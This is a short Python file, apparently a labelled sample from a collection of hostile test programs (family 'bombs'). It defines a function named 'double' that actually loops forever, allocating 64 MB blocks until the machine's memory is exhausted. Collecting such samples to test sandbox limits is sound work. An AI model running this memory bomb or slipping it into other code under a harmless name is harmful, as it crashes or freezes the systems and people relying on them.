# family: bombs
# tries: all the memory that there is
# stock: no, it takes the machine's memory
def double(x):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
